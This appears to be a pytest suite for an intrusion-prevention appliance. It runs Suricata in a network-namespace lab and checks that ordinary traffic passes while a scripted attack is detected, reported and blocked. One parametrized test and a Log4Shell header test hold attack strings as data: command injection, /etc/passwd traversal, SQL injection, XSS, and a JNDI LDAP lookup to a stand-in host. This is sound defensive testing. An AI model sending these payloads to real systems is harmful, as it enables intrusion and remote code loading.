"""The lab with its UTM: real packets, real Suricata, a real attack. Root only."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from sekisho_edge.converge import DEFINITIONS, desired_state
from sekisho_edge.engines.suricata import Sensor, sensor_paths
from sekisho_edge.lab import Lab, LabError, attached, network, site, story
from sekisho_edge.lab.policy import lab_policy
from sekisho_edge.render.nftables import Attach
from sekisho_edge.status import read_status
from sekisho_wire.policy import IntrusionPrevention, write_policy

from .centre import Centre, make_site, server_context
from .conftest import wait_until, why_no_lab

pytestmark = [
    pytest.mark.root,
    pytest.mark.skipif(bool(why_no_lab()), reason=why_no_lab() or "-"),
    # One worker has the lab: two at once would only slow each other down.
    pytest.mark.xdist_group("lab"),
]


@dataclass
class Utm:
    """The agent at work in the lab, and a centre on the management wire that it reports to."""

    lab: Lab
    state: Path
    centre: Centre
    process: subprocess.Popen | None = None
    loop: asyncio.AbstractEventLoop = field(default_factory=asyncio.new_event_loop)

    def start(self) -> None:
        address = f"{self.lab.management.platform_address}:{self.centre.port}"
        argv = ["agent", "--state", str(self.state), "--centre", address, "--netns", self.lab.namespace("utm")]
        with (self.state / "agent.out").open("ab") as out:
            self.process = subprocess.Popen([sys.executable, "-m", "sekisho_edge.cli", *argv], stdout=out, stderr=out)
        wait_until(self.inspects)

    def inspects(self) -> dict | None:
        assert self.process.poll() is None, (self.state / "agent.out").read_text()
        status = read_status(self.state)
        return status if status and status["pid"] == self.process.pid and self._ready(status) else None

    def _ready(self, status):
        return status["sensor"]["state"] == "inspecting" and status["link"]["connected"]

    def stop(self) -> int:
        self.process.terminate()
        return self.process.wait(20)

    def events(self) -> list[dict]:
        return [json.loads(line) for line in (self.state / "log" / "eve.json").read_bytes().splitlines()]

    def alerts(self, since: int = 0) -> list[dict]:
        """Alerts among the events from number ``since`` on."""
        return [event for event in self.events()[since:] if event["event_type"] == "alert"]

    def sids(self, since: int = 0) -> set[int]:
        return {event["alert"]["signature_id"] for event in self.alerts(since)}


@pytest.fixture(scope="module")
def utm(lab: Lab, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Utm]:
    state = tmp_path_factory.mktemp("edge")
    make_site(state)
    machine = Utm(lab, state, Centre(server_context(state)))
    with _centre_in_thread(machine):
        machine.start()
        yield machine
        machine.stop()


@contextlib.contextmanager
def _centre_in_thread(machine: Utm) -> Iterator[None]:
    server = machine.loop.run_until_complete(machine.centre.listen(machine.lab.management.platform_address))
    thread = threading.Thread(target=machine.loop.run_forever)
    thread.start()
    try:
        yield
    finally:
        machine.loop.call_soon_threadsafe(server.close)
        asyncio.run_coroutine_threadsafe(_hang_up(machine.centre), machine.loop).result(10)
        machine.loop.call_soon_threadsafe(machine.loop.stop)
        thread.join()
        machine.loop.close()


async def _hang_up(centre: Centre) -> None:
    for task in list(centre.connections):
        task.cancel()
    await asyncio.gather(*centre.connections, return_exceptions=True)


def reaches(lab: Lab, host: str, address: str, port: int) -> bool:
    probe = "import socket,sys; socket.create_connection((sys.argv[1], int(sys.argv[2])), 1).close()"
    return lab.run(host, [sys.executable, "-I", "-S", "-c", probe, address, str(port)]).returncode == 0


def test_inside_reaches_the_outside_by_name(utm: Utm):
    assert "200 /weather" in story.visit(utm.lab, "pc1", "www.lab.example", ["/weather"])


def test_outside_reaches_the_published_server_and_nothing_else(utm: Utm):
    assert "200 /items" in story.visit(utm.lab, "www", site.WAN_ADDRESS, ["/items"])
    assert not reaches(utm.lab, "www", site.WAN_ADDRESS, 22)
    assert not reaches(utm.lab, "www", site.WAN_ADDRESS, site.SERVER_PORT)


def test_the_policy_holds_between_the_zones(utm: Utm):
    assert reaches(utm.lab, "pc1", site.SERVER_ADDRESS, site.SERVER_PORT)
    assert not reaches(utm.lab, "server", "192.168.10.11", 80)
    assert not reaches(utm.lab, "pc1", site.ATTACKER_ADDRESS, site.BEACON_PORT)


def test_no_host_of_the_lab_reaches_the_machine_that_carries_it(utm: Utm):
    platform = utm.lab.management.platform_address
    assert reaches(utm.lab, "utm", platform, utm.centre.port)
    for host in ("pc1", "server", "attacker", "internet"):
        assert not reaches(utm.lab, host, platform, utm.centre.port)


def test_the_sensor_is_inline_with_all_our_signatures(utm: Utm):
    sensor = utm.inspects()["sensor"]
    rules = Path(site.__file__).parents[1] / "definitions" / "sekisho.rules"
    assert sensor["inline"] is True
    assert sensor["rules_loaded"] == rules.read_text().count("\nalert ")


def test_ordinary_life_raises_no_alert(utm: Utm):
    since = len(utm.events())
    codes = [step.code for step in story.ordinary(utm.lab)]
    assert codes == ["ordinary.news", "ordinary.sns", "ordinary.mail", "ordinary.customer"]
    wait_until(lambda: any(event["event_type"] == "smtp" for event in utm.events()[since:]))
    assert utm.sids(since) == set()


def test_the_attack_is_seen_from_scan_to_beacon_and_reaches_the_centre_in_time(utm: Utm):
    since, known = len(utm.events()), len(utm.centre.lines())
    steps = list(story.attack(utm.lab))
    assert steps[0].at is not None and steps[0].at.tzinfo is not None
    wait_until(lambda: any(b'"signature_id":9000040' in line for line in utm.centre.lines()[known:]))
    assert utm.sids(since) >= {9000020, 9000040, 9000050}
    assert time.time() - steps[0].at.timestamp() < 5.0


def test_an_alert_carries_what_an_analyst_asks_for(utm: Utm):
    since = len(utm.events())
    story.visit(utm.lab, "attacker", site.WAN_ADDRESS, [story.INJECTED_ID])
    wait_until(lambda: 9000040 in utm.sids(since))
    alert = next(alert for alert in utm.alerts(since) if alert["alert"]["signature_id"] == 9000040)
    assert alert["src_ip"] == site.SERVER_ADDRESS
    assert alert["alert"]["metadata"]["sekisho_success"] == ["true"]
    assert alert["alert"]["metadata"]["mitre_technique_id"] == ["T1059.004"]
    assert alert["http"]["url"].startswith("/cgi-bin/lookup")
    assert "uid=65534(nobody)" in alert["http"]["http_response_body_printable"]


@pytest.mark.parametrize(
    ("sid", "host", "server", "path"),
    [
        (9000021, "attacker", site.WAN_ADDRESS, "/?x=1%7Ccat%20y"),
        (9000022, "attacker", site.WAN_ADDRESS, "/?x=%24(whoami)"),
        (9000024, "attacker", site.WAN_ADDRESS, "/../../../../etc/passwd"),
        (9000026, "attacker", site.WAN_ADDRESS, "/items?id=1%20UNION%20ALL%20SELECT%201,2"),
        (9000027, "attacker", site.WAN_ADDRESS, "/items?id=1%27%20or%20%271%27=%271"),
        (9000028, "attacker", site.WAN_ADDRESS, "/items?id=SLEEP(5)"),
        (9000030, "attacker", site.WAN_ADDRESS, "/?q=${jndi:ldap://192.0.2.66/a}"),
        (9000033, "sns", site.WAN_ADDRESS, "/.git/config"),
        (9000034, "attacker", site.WAN_ADDRESS, "/?q=%3Cscript%3Ealert(1)"),
        (9000070, "pc1", "cdn.badhost.example", "/invoice.com"),
        (9000061, "pc1", "cdn.badhost.example", "/"),
    ],
)
def test_a_malicious_request_is_named(sid: int, host: str, server: str, path: str, utm: Utm):
    since = len(utm.events())
    story.visit(utm.lab, host, server, [path])
    wait_until(lambda: sid in utm.sids(since))


def test_log4shell_in_a_header_is_named(utm: Utm):
    since = len(utm.events())
    story.visit(utm.lab, "attacker", site.WAN_ADDRESS, ["/"], agent="${jndi:ldap://192.0.2.66/a}")
    wait_until(lambda: 9000029 in utm.sids(since))


def test_the_line_stays_alive_while_a_killed_sensor_comes_back(utm: Utm):
    """kill -9: the queue lets packets by at once, and the agent starts a new sensor."""
    before = utm.inspects()["sensor"]
    os.kill(before["pid"], signal.SIGKILL)
    while (utm.inspects() or {"sensor": before})["sensor"]["pid"] == before["pid"]:
        assert "200 /" in story.visit(utm.lab, "pc1", "198.51.100.10", ["/"])
    assert utm.inspects()["sensor"]["starts"] == before["starts"] + 1
    since = len(utm.events())
    story.visit(utm.lab, "attacker", site.WAN_ADDRESS, ["/?x=1%7Cwget%20y"])
    wait_until(lambda: 9000021 in utm.sids(since))


def test_rules_are_reloaded_into_the_running_sensor(utm: Utm):
    before = utm.inspects()["sensor"]
    sensor = Sensor(None, utm.state)
    asyncio.run(sensor.reload_rules())
    assert asyncio.run(sensor.rules_loaded()) == before["rules_loaded"]
    assert utm.inspects()["sensor"]["pid"] == before["pid"]


def test_a_rotated_log_goes_on_in_a_new_file_and_nothing_is_missed(utm: Utm):
    eve = utm.state / "log" / "eve.json"
    known = len(utm.centre.lines())
    old = eve.with_name(f"eve.json.{time.time_ns():020d}")
    eve.rename(old)
    asyncio.run(Sensor(None, utm.state).reopen_logs())
    story.visit(utm.lab, "pc1", "198.51.100.10", ["/weather"])
    wait_until(lambda: any(b'"/weather"' in line for line in utm.centre.lines()[known:]))
    wait_until(lambda: not old.exists())


def test_a_sensor_that_hangs_is_ended_and_replaced(utm: Utm):
    before = wait_until(utm.inspects)["sensor"]
    os.kill(before["pid"], signal.SIGSTOP)
    began = time.monotonic()
    assert "200 /" in story.visit(utm.lab, "pc1", "198.51.100.10", ["/"])
    assert time.monotonic() - began < 8.0
    wait_until(lambda: (utm.inspects() or {"sensor": before})["sensor"]["starts"] > before["starts"])


def test_killing_the_helper_is_survived_too(utm: Utm):
    before = wait_until(utm.inspects)["sensor"]
    children = Path(f"/proc/{utm.process.pid}/task/{utm.process.pid}/children").read_text().split()
    os.kill(int(children[0]), signal.SIGKILL)
    wait_until(lambda: (utm.inspects() or {"sensor": before})["sensor"]["starts"] > before["starts"])


def test_after_kill_9_of_the_agent_every_line_is_at_the_centre_once(utm: Utm):
    for turn in range(3):
        story.visit(utm.lab, "pc1", "198.51.100.10", ["/", "/weather"] * 10)
        if turn < 2:
            utm.process.kill()
            utm.process.wait()
            wait_until(lambda: not suricatas(utm))
            utm.start()
    story.visit(utm.lab, "pc2", "198.51.100.20", ["/"])
    command_socket = sensor_paths(utm.state).command_socket
    assert command_socket.exists()
    assert utm.stop() == 0
    assert not command_socket.exists()
    utm.start()
    wait_until(lambda: read_status(utm.state)["logs"]["backlog_bytes"] == 0)
    written = (utm.state / "log" / "eve.json").read_bytes().splitlines(keepends=True)
    assert utm.centre.lines()[-len(written) :] == written
    assert utm.centre.changed == []


def suricatas(utm: Utm) -> list[str]:
    pids = subprocess.run(["ip", "netns", "pids", utm.lab.namespace("utm")], capture_output=True, text=True, check=True)
    return [p for p in pids.stdout.split() if "suricata" in Path(f"/proc/{p}/cmdline").read_text()]


@contextlib.contextmanager
def guarded(lab: Lab, state: Path, intrusion: IntrusionPrevention) -> Iterator[Callable[[], dict]]:
    """An agent with a policy of its own and no centre; yields a reader of its sensor's status."""
    (state / "policy.json").write_bytes(write_policy(lab_policy(intrusion)))
    argv = ["agent", "--without-link", "--state", str(state), "--netns", lab.namespace("utm")]
    agent = subprocess.Popen([sys.executable, "-m", "sekisho_edge.cli", *argv])
    try:
        wait_until(lambda: (read_status(state) or {"sensor": {"state": ""}})["sensor"]["state"] == "inspecting")
        yield lambda: read_status(state)["sensor"]
    finally:
        agent.terminate()
        assert agent.wait(20) == 0


def test_prevention_stops_the_exploit_and_lets_customers_in(second_lab: Lab, tmp_path: Path):
    with guarded(second_lab, tmp_path, IntrusionPrevention(mode="prevent")):
        assert "200 /items" in story.visit(second_lab, "www", site.WAN_ADDRESS, ["/items"])
        with pytest.raises(story.SceneError, match="timed out"):
            story.visit(second_lab, "attacker", site.WAN_ADDRESS, [story.INJECTED_ID], seconds_max=2.0)
        assert "200 /items" in story.visit(second_lab, "www", site.WAN_ADDRESS, ["/items"])
    events = [json.loads(line) for line in (tmp_path / "log" / "eve.json").read_bytes().splitlines()]
    blocked = [e for e in events if e["event_type"] == "alert" and e["alert"]["action"] == "blocked"]
    assert 9000020 in {event["alert"]["signature_id"] for event in blocked}
    assert not any(b"uid=65534" in json.dumps(event).encode() for event in events)


def test_a_closed_line_is_dead_without_its_sensor_and_lives_with_it(second_lab: Lab, tmp_path: Path):
    with guarded(second_lab, tmp_path, IntrusionPrevention(failure="closed")) as sensor:
        assert reaches(second_lab, "pc1", "198.51.100.10", 80)
        os.kill(sensor()["pid"], signal.SIGSTOP)
        assert not reaches(second_lab, "pc1", "198.51.100.10", 80)
        wait_until(lambda: sensor()["state"] == "inspecting" and sensor()["starts"] == 2)
        wait_until(lambda: reaches(second_lab, "pc1", "198.51.100.10", 80))


def test_the_inspection_limit_loads_and_lets_large_downloads_by(second_lab: Lab, tmp_path: Path):
    with guarded(second_lab, tmp_path, IntrusionPrevention(inspect_bytes_max=1 << 20)):
        assert "200 /bytes/8000000" in story.visit(second_lab, "pc1", "198.51.100.10", ["/bytes/8000000"])


def test_without_a_queue_the_sensor_still_listens(second_lab: Lab, tmp_path: Path):
    """The last resort on a kernel that has neither queue target: it sees, and says that it can't stop."""
    policy, sensor_files = lab_policy(), tmp_path / "sensor"
    sensor_files.mkdir()
    paths = sensor_paths(tmp_path)
    desired = desired_state(policy, Attach.TAP, paths, DEFINITIONS.read_text(), "mgmt")
    (sensor_files / "suricata.yaml").write_text(desired.config)
    (sensor_files / "sekisho.rules").write_text(desired.rules)
    requests = [
        {"do": "apply-filter", "nft": desired.nft, "xtables": desired.xtables},
        {"do": "start-sensor", "queue": None, "interfaces": list(desired.interfaces)},
    ]
    argv = second_lab.argv("utm", [sys.executable, "-m", "sekisho_edge.helper", str(tmp_path)])
    with subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as helper:
        for request in requests:
            helper.stdin.write(json.dumps(request) + "\n")
            helper.stdin.flush()
            assert json.loads(helper.stdout.readline())["ok"] is True
        wait_until(paths.command_socket.exists)
        wait_until(lambda: "Engine started" in (tmp_path / "log" / "suricata.log").read_text())
        list(story.attack(second_lab))
        wait_until(lambda: b'"signature_id":9000040' in (tmp_path / "log" / "eve.json").read_bytes())
        helper.stdin.close()
        assert helper.wait(20) == 0


@pytest.fixture(scope="module")
def second_lab() -> Iterator[Lab]:
    with Lab(f"w{os.getpid() % 1_000_000}") as made:
        yield made


def test_a_second_lab_lives_beside_the_first_and_leaves_nothing(utm: Utm):
    prefix = f"u{os.getpid() % 1_000_000}"
    with Lab(prefix) as other:
        assert other.management != utm.lab.management
        assert len(network.existing(prefix)) == len(site.NAMESPACES)
        with pytest.raises(LabError, match="up already"):
            _up_elsewhere(prefix)
        assert attached(prefix).management == other.management
    assert network.existing(prefix) == []
    assert not other.folder.exists()


def _up_elsewhere(prefix):
    """From another process, because our own lab may be built anew by ourselves."""
    done = subprocess.run(
        [sys.executable, "-m", "sekisho_edge.cli", "lab", "--prefix", prefix, "up"], capture_output=True, text=True,
        timeout=30, check=False,
    )  # fmt: skip
    assert done.returncode == 1
    raise LabError(done.stderr)


def test_what_a_killed_lab_leaves_is_cleaned_up_by_the_next(utm: Utm):
    prefix = f"v{os.getpid() % 1_000_000}"
    argv = [sys.executable, "-m", "sekisho_edge.cli", "lab", "--prefix", prefix]
    with subprocess.Popen([*argv, "up"], stdout=subprocess.PIPE, text=True) as first:
        assert json.loads(first.stdout.readline())["ready"] is True
        first.kill()
    assert network.existing(prefix)
    wait_until(lambda: not inhabitants(prefix))
    with subprocess.Popen([*argv, "up"], stdout=subprocess.PIPE, text=True) as second:
        assert json.loads(second.stdout.readline())["ready"] is True
        ran = subprocess.run([*argv, "exec", "pc1", "--", "hostname"], capture_output=True, text=True, check=False)
        assert ran.returncode == 0
        assert subprocess.run([*argv, "down"], check=False).returncode == 0
        assert second.wait(10) == 0
    assert network.existing(prefix) == []


def inhabitants(prefix: str) -> list[str]:
    """Processes that live in any namespace of a lab."""
    found = [subprocess.run(["ip", "netns", "pids", name], capture_output=True, text=True, check=True).stdout.split()
             for name in network.existing(prefix)]  # fmt: skip
    return [pid for pids in found for pid in pids]
